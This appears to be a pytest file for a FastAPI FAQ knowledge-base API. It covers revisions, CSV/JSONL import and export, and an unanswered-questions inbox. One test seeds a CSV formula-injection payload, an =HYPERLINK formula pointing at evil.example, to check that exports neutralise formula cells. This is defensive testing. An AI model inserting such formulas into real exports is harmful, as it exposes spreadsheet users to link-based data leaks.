"""Knowledge-base curation through the API: CRUD with revisions, import/export, the unanswered inbox."""

from __future__ import annotations

import csv
import io
import json
import uuid

from fastapi.testclient import TestClient

from tests.app_fixtures import SERVICE_TOKEN

SERVICE = {"Authorization": f"Bearer {SERVICE_TOKEN}"}


def _search(client: TestClient, q: str, **params: str) -> dict:
    response = client.get("/api/v1/kb/search", params={"q": q, **params}, headers=SERVICE)
    assert response.status_code == 200, response.text
    return response.json()


def test_agents_may_not_curate(agent_client: tuple[TestClient, int]) -> None:
    api, _ = agent_client
    assert api.get("/api/v1/kb/faqs").status_code == 403
    assert (
        api.post("/api/v1/kb/faqs", json={"question": "q", "answer": "a", "language": "en"}).status_code
        == 403
    )


def test_create_publish_edit_delete_with_revisions(
    client: TestClient, admin_client: tuple[TestClient, int]
) -> None:
    api, admin_id = admin_client
    faq_id = f"test-{uuid.uuid4().hex[:8]}"
    body = {
        "id": faq_id, "question": "Do you sell replacement zeppelin propellers?",
        "variants": ["zeppelin propeller spare part", "  ", "zeppelin propeller spare part"],
        "answer": "Yes, in the spare-parts corner.", "language": "en", "category": "orders",
    }  # fmt: skip
    created = api.post("/api/v1/kb/faqs", json=body)
    assert created.status_code == 201, created.text
    assert created.json()["status"] == "draft"
    assert created.json()["variants"] == ["zeppelin propeller spare part"]  # blanks and repeats dropped
    hits = _search(client, "replacement zeppelin propellers", lang="en")["results"]
    assert all(h["faq_id"] != faq_id for h in hits)  # drafts are never answered from

    published = api.patch(f"/api/v1/kb/faqs/{faq_id}", json={"status": "published"}).json()
    assert published["version"] == 2
    top = _search(client, "replacement zeppelin propellers", lang="en")
    assert top["results"][0]["faq_id"] == faq_id  # re-indexed on the write, no restart

    api.patch(f"/api/v1/kb/faqs/{faq_id}", json={"answer": "Yes: spare parts, aisle 9."})
    assert api.delete(f"/api/v1/kb/faqs/{faq_id}").status_code == 204
    assert api.get(f"/api/v1/kb/faqs/{faq_id}").status_code == 404
    revisions = api.get(f"/api/v1/kb/faqs/{faq_id}/revisions").json()
    assert [(r["version"], r["action"]) for r in revisions] == [
        (1, "create"),
        (2, "update"),
        (3, "update"),
        (4, "delete"),
    ]
    assert revisions[2]["snapshot"]["answer"] == "Yes: spare parts, aisle 9."
    assert all(r["author_id"] == admin_id for r in revisions)
    assert all(
        h["faq_id"] != faq_id
        for h in _search(client, "replacement zeppelin propellers", lang="en")["results"]
    )


def test_import_is_all_or_nothing_and_names_bad_rows(admin_client: tuple[TestClient, int]) -> None:
    api, _ = admin_client
    before = api.get("/api/v1/kb/faqs", params={"limit": 1}).json()["total"]
    tag = uuid.uuid4().hex[:6]
    good = {"id": f"imp-{tag}-1", "question": "Q one", "variants": ["a"], "answer": "A", "language": "en"}
    lines = [
        json.dumps(good),
        json.dumps({"id": f"imp-{tag}-2", "question": "", "answer": "A", "language": "en"}),
        "{not json",
        json.dumps({"id": f"imp-{tag}-3", "question": "Q", "answer": "A", "language": "fr"}),
        json.dumps(good),
    ]
    bad = api.post("/api/v1/kb/import", files={"file": ("faqs.jsonl", "\n".join(lines).encode())})
    assert bad.status_code == 422
    error = bad.json()["error"]
    assert [d["row"] for d in error["details"]] == [2, 3, 4, 5]
    assert "nothing was imported" in error["message"]
    assert any("language" in m for m in error["details"][2]["errors"])
    assert "repeats row 1" in error["details"][3]["errors"][0]
    assert api.get("/api/v1/kb/faqs", params={"limit": 1}).json()["total"] == before

    csv_text = (
        "id,question,variants,answer,language,category,tags,status\n"
        f"imp-{tag}-c1,How heavy is the parcel?,parcel weight|how much does it weigh,"
        "Up to 30 kg.,en,shipping,weight,published\n"
        f"imp-{tag}-c2,包裹多重？,包裹重量|有多重,最多30公斤。,zh,shipping,,published\n"
    )
    report = api.post("/api/v1/kb/import", files={"file": ("faqs.csv", csv_text.encode())})
    assert report.status_code == 200, report.text
    assert report.json() == {"created": 2, "updated": 0, "total": 2}
    again = api.post("/api/v1/kb/import", files={"file": ("faqs.csv", csv_text.encode())}).json()
    assert again == {"created": 0, "updated": 2, "total": 2}
    entry = api.get(f"/api/v1/kb/faqs/imp-{tag}-c1").json()
    assert entry["variants"] == ["parcel weight", "how much does it weigh"]
    assert entry["tags"] == ["weight"]
    no_format = api.post("/api/v1/kb/import", files={"file": ("faqs.txt", b"x")})
    assert no_format.status_code == 422


def test_export_round_trips(admin_client: tuple[TestClient, int]) -> None:
    api, _ = admin_client
    jsonl = api.get("/api/v1/kb/export", params={"format": "jsonl"})
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    rows = [json.loads(line) for line in jsonl.text.splitlines()]
    shipping = next(r for r in rows if r["id"] == "en-shipping-01")
    assert shipping["question"] == "How long does delivery take?" and len(shipping["variants"]) >= 5
    csv_export = api.get("/api/v1/kb/export", params={"format": "csv"})
    assert csv_export.text.splitlines()[0] == "id,question,variants,answer,language,category,tags,status"
    reimport = api.post("/api/v1/kb/import", files={"file": ("all.csv", csv_export.content)})
    assert reimport.status_code == 200, reimport.text
    assert reimport.json()["created"] == 0


def test_unanswered_inbox(client: TestClient, admin_client: tuple[TestClient, int]) -> None:
    api, _ = admin_client
    odd = f"do you rent hot air balloons for weddings {uuid.uuid4().hex[:4]}"
    assert _search(client, odd, lang="en", log="true", conversation_id="c1")["decision"] == "none"
    _search(client, odd + " please", lang="en", log="true")
    _search(client, "what about a completely unrelated thing like volcano tours", lang="en")  # log not asked
    groups = api.get("/api/v1/kb/unanswered", params={"language": "en"}).json()
    mine = next(g for g in groups if odd in g["representative"] or any(i["text"] == odd for i in g["items"]))
    assert mine["count"] == 2
    item_id = next(i["id"] for i in mine["items"] if i["text"] == odd)
    entry = api.post(f"/api/v1/kb/unanswered/{item_id}/add-variant", json={"faq_id": "en-payment-01"})
    assert entry.status_code == 200, entry.text
    assert odd in entry.json()["variants"]
    assert (
        api.post(f"/api/v1/kb/unanswered/{item_id}/add-variant", json={"faq_id": "en-payment-01"}).status_code
        == 409
    )
    other = next(i["id"] for i in mine["items"] if i["text"] != odd)
    draft = api.post(f"/api/v1/kb/unanswered/{other}/new-entry", json={"answer": "We only take money."})
    assert draft.status_code == 201 and draft.json()["status"] == "draft"
    assert draft.json()["question"] == odd + " please"
    remaining = api.get("/api/v1/kb/unanswered", params={"language": "en"}).json()
    assert all(i["id"] not in (item_id, other) for g in remaining for i in g["items"])


def test_csv_export_guards_formula_cells_and_round_trips_them(admin_client: tuple[TestClient, int]) -> None:
    # Issue 22 (low): a cell starting with = + - @ ran as a formula when an admin opened the export.
    api, _ = admin_client
    tag = uuid.uuid4().hex[:6]
    body = {
        "question": f'=HYPERLINK("http://evil.example/?{tag}","click")',
        "answer": "-2+3 is the sum; @mention; 'quoted",
        "variants": [f"+1 call us {tag}", "'=already guarded"],
        "language": "en",
    }
    created = api.post("/api/v1/kb/faqs", json=body)
    assert created.status_code == 201, created.text
    faq_id = created.json()["id"]
    exported = api.get("/api/v1/kb/export", params={"format": "csv"}).text
    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == faq_id)
    assert row["question"].startswith("'=HYPERLINK") and row["answer"].startswith("'-2+3")
    assert row["variants"].startswith("'+1 call us")
    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())
    reimport = api.post("/api/v1/kb/import", files={"file": ("all.csv", exported.encode())})
    assert reimport.status_code == 200, reimport.text
    again = api.get(f"/api/v1/kb/faqs/{faq_id}").json()
    assert (again["question"], again["answer"]) == (body["question"], body["answer"])
    assert sorted(again["variants"]) == sorted(body["variants"])
